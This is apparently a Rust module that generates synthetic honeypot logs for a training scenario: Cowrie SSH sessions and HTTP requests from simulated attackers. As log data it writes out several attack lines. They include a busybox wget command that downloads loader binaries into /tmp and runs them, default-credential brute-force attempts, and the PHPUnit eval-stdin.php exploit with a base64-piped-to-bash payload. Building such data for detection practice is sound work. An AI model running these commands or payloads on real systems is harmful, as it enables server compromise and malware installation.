//! the story → what two honeypots heard: Cowrie's sessions of the loader, and requests with the PHPUnit exploit.

use super::json::{Value, object, strings};
use super::servers::{GUESSER, WEB_ATTACKER};
use super::{HOUR_MILLIS, PHP, Random, START_MILLIS, Story};

const SENSOR: &str = "pot-sgp-1";
const POT: &str = "192.0.2.250";

pub(super) fn cowrie(story: &Story) -> String {
    let binary = story.value(super::LOADER, 0, "binary");
    let mut out = String::new();
    for (n, (from, hours)) in
        [(GUESSER, 1), ("203.0.113.67", 6), (GUESSER, 15), ("203.0.113.68", 30)].into_iter().enumerate()
    {
        session(n as u64, from, START_MILLIS + hours * HOUR_MILLIS + 417_000, binary, &mut out);
    }
    out
}

fn session(n: u64, from: &str, start: i64, binary: &str, out: &mut String) {
    let mut random = Random::new(51 + n);
    let id = format!("{:012x}", random.next() >> 16);
    let port = random.between(1025, 65_000) as i64;
    let mut clock = start;
    let mut say = |after: i64, event: &str, own: &[(&str, Value<'_>)], message: &str| {
        clock += after;
        let time = super::rfc3339(clock).replace('Z', "000Z");
        let mut fields: Vec<(&str, Value<'_>)> = vec![("eventid", event.into())];
        fields.extend_from_slice(own);
        fields.extend([
            ("message", message.into()),
            ("sensor", SENSOR.into()),
            ("timestamp", (&time).into()),
            ("src_ip", from.into()),
            ("session", (&id).into()),
            ("protocol", "ssh".into()),
        ]);
        out.push_str(&object(&fields));
        out.push('\n');
    };
    let place = [("src_port", port.into()), ("dst_ip", POT.into()), ("dst_port", 2222.into())];
    say(0, "cowrie.session.connect", &place, "New connection");
    say(180, "cowrie.client.version", &[("version", "SSH-2.0-Go".into())], "Remote SSH version: SSH-2.0-Go");
    let algorithms = strings(["curve25519-sha256", "ecdh-sha2-nistp256"]);
    let kex = [("hassh", "0a07365cc01fa9fc82608ba4019af499".into()), ("kexAlgs", Value::Json(&algorithms))];
    say(12, "cowrie.client.kex", &kex, "SSH client hassh fingerprint");
    for password in ["root", "123456", "admin"].iter().skip(n as usize % 3) {
        let login = [("username", "root".into()), ("password", (*password).into())];
        say(700, "cowrie.login.failed", &login, "login attempt failed");
    }
    let login = [("username", "root".into()), ("password", "P@ssw0rd".into())];
    say(650, "cowrie.login.success", &login, "login attempt succeeded");
    for input in ["uname -a", "cat /proc/cpuinfo"] {
        say(300, "cowrie.command.input", &[("input", input.into())], "CMD");
    }
    for (number, copy) in [(1, 1), (3, 2), (5, 3)] {
        let input = format!(
            "/bin/busybox wget -O /tmp/pty{number} {binary}{number}; chmod +x /tmp/pty{number}; chmod 700 /tmp/pty{number}; \
             /tmp/pty{number}; cp /bin/busybox /tmp/loop{copy}; cat /tmp/pty{number} > /tmp/loop{copy}; /tmp/loop{copy} &"
        );
        say(400, "cowrie.command.input", &[("input", (&input).into())], "CMD");
        let url = format!("{binary}{number}");
        // The same program for every session: its hash is the kit's.
        let mut kit = Random::new(number);
        let hash: String = (0..4).map(|_| format!("{:016x}", kit.next())).collect();
        let file = [
            ("url", (&url).into()),
            ("outfile", "var/lib/cowrie/downloads/sample".into()),
            ("shasum", (&hash).into()),
            ("destfile", "/tmp/pty".into()),
        ];
        say(900, "cowrie.session.file_download", &file, "Downloaded URL");
    }
    say(1500, "cowrie.session.closed", &[("duration_ms", 9100.into())], "Connection lost");
}

pub(super) fn http(story: &Story) -> String {
    let mut random = Random::new(61);
    let mut rows: Vec<(i64, String)> = Vec::new();
    let mut request = |time: i64, from: &str, method: &str, url: &str, data: Option<&str>, agent: &str| {
        let stamp = super::rfc3339(time).replace('Z', "000");
        let headers = object(&[("Host", POT.into()), ("User-Agent", agent.into()), ("Accept", "*/*".into())]);
        let fields = [
            ("time", (&stamp).into()),
            ("headers", Value::Json(&headers)),
            ("sip", from.into()),
            ("dip", POT.into()),
            ("method", method.into()),
            ("url", url.into()),
            ("data", data.map_or(Value::Json("null"), Value::Text)),
            ("useragent", agent.into()),
            ("version", "HTTP/1.1".into()),
        ];
        rows.push((time, object(&fields)));
    };
    for hour in 0..48 {
        let time = START_MILLIS + hour * HOUR_MILLIS + random.below(3_000_000) as i64;
        let from = format!("198.51.100.{}", random.between(2, 250));
        let url = ["/", "/favicon.ico", "/robots.txt", "/.env", "/manager/html", "/login"][random.below(6) as usize];
        request(time, &from, "GET", url, None, "Mozilla/5.0 zgrab/0.x");
    }
    for (wave, hours) in [(0, 6), (0, 9), (1, 21), (2, 36)] {
        let b64 = story.value(PHP, wave, "b64");
        let body = format!("<?php system('echo {b64}|base64 -d|bash'); ?>");
        let time = START_MILLIS + hours * HOUR_MILLIS + random.below(1_000_000) as i64;
        for folder in ["/vendor", "/lib/vendor", "/laravel/vendor"] {
            let url = format!("{folder}/phpunit/phpunit/src/Util/PHP/eval-stdin.php");
            request(time, WEB_ATTACKER, "POST", &url, Some(&body), "python-requests/2.27.1");
        }
    }
    rows.sort_by_key(|it| it.0);
    rows.into_iter().flat_map(|it| [it.1, "\n".to_owned()]).collect()
}
